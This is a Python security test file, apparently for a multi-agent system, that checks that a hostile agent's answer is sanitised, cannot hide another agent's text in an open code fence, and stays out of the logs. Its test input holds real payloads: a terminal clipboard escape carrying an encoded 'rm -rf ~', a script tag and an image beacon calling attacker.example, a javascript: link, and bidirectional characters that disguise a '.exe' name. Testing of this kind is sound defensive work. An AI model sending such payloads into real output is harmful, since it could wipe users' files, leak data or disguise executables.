"""Agents that are not what they should be: what they answer is data, wherever it goes."""

import asyncio
import unicodedata

from markdown_it import MarkdownIt

from local_cloud.running_cloud import until
from security.attack import Attack, Inconclusive, must
from security.secured_stack import SecuredStack

MARK = "kept as it is"
OTHERS = "The advisor agent's answer."

# What takes over a terminal or turns a line's reading round, around text that stays.
HOSTILE = (
    f"# {MARK}\n\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\x9b31m\x00\x08\r"
    "<script>fetch('https://attacker.example')</script> [click](javascript:alert(1)) ![](https://attacker.example/p.png)\n"
    "\u202egnp.exe\u202c \u2066x\u2069 \ufeff\n"
)
# Each would make code of all that follows it.
OPEN_FENCES = ("```\nan open fence", "- a list\n\n  ~~~~\n  an open fence in it", "   ```\nan open, indented fence")
# As in the contract: line breaks and tabs are text.
HARMLESS_CONTROLS = "\n\t"


def dangerous_characters(text: str) -> set[str]:
    bidi = set(map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A))))
    return {
        character
        for character in text
        if character in bidi or (unicodedata.category(character) == "Cc" and character not in HARMLESS_CONTROLS)
    }


async def a_hostile_answer(stack: SecuredStack) -> None:
    async with stack.signed_in() as client:
        for fence in OPEN_FENCES:
            stack.hostile_answer(HOSTILE + fence)
            messages = await client.job("What did it cost? cost=hostile advisor=answer And where can I save?")
            response = messages[-1]["result"]["response"]
            must(MARK in response, f"The answer itself is gone: {response}")
            for message in messages:
                texts = [message.get("result", {}).get(field, "") for field in ("content", "response")]
                must(not dangerous_characters("".join(texts)), f"{dangerous_characters(''.join(texts))} got through.")
            must(OTHERS in response, "The other agent's part is gone.")
            must(not is_code(OTHERS, response), f"One agent's open fence swallows the other's part: {response}")


def is_code(text: str, markdown: str) -> bool:
    return any(text in token.content for token in MarkdownIt().parse(markdown) if token.type in {"fence", "code_block"})


async def an_agents_own_words_about_its_failure(stack: SecuredStack) -> None:
    async with stack.signed_in() as client:
        for script in ("crash", "refuse", "rubbish", "deep:200000"):
            messages = await client.job(f"What did it cost? cost={script}")
            must("own words" not in str(messages), f"A client reads them: {messages}")
            must(messages[-1]["code"] == "AGENTS_FAILED", f"It ends as {messages[-1]}")


async def text_in_the_logs(stack: SecuredStack) -> None:
    """What the processor logs of a job whose question, answer and failure all have a mark."""
    mark = "markinthelogs"
    stack.hostile_answer(f"{mark} {HOSTILE}")
    async with stack.signed_in() as client:
        messages = await client.job(f"{mark} What did it cost? cost=hostile advisor=crash And where can I save?")
    job_id = messages[-1]["jobId"]

    def lines_to_the_jobs_end() -> list[str]:
        lines = stack.log_lines("background-processor")
        return lines if any(job_id in line and "A job was completed." in line for line in lines) else []

    lines = await asyncio.to_thread(until, lines_to_the_jobs_end)
    if not any(job_id in line and "An agent crashed." in line for line in lines):
        raise Inconclusive("The log does not tell of the agent's crash.")
    must(not any(mark in line for line in lines), "A text is in the log.")
    must(all(not dangerous_characters(line) for line in lines), "Control characters are in the log.")


ATTACKS: dict[str, Attack] = {
    "an answer full of control characters, scripts and open fences": a_hostile_answer,
    "an agent that puts its own words into its failure": an_agents_own_words_about_its_failure,
    "texts that end up in the logs": text_in_the_logs,
}
